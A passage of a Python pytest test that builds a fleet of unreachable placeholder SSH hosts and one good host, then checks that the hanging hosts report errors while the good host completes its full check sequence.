        " ".join([*(f"ssh://build-{n}.invalid" for n in range(15)), "ssh://good"]),
        ssh_config=config,
        ssh_known_hosts=known,
        ssh_connect_timeout_s=20,
    )
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    settings = load_settings(tmp_path)
    _, *hanging, good = asyncio.run(check_verb._check_all(settings, list(settings.fleet)))
    assert {each.checks[0].status for each in hanging} == {"error"}
    assert [each.name for each in good.checks] == [*WAY, *HOST, "gate"]
